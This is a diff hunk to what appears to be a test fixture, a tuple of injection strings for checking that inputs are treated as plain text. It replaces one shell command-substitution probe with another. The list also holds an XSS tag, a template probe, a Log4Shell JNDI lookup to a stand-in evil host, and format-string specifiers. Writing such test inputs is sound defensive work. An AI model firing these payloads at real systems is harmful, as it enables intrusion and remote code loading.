@@ -173,7 +173,7 @@ INJECTIONS = (
     "<script>alert(1)</script>",
     "{{ 7 * 7 }}",
     "${jndi:ldap://evil.example/x}",
-    "$(touch /tmp/x)",
+    "$(id)",
     "%s%n%p",
 )
 """What would ask for something else where it is not taken for a mere text."""
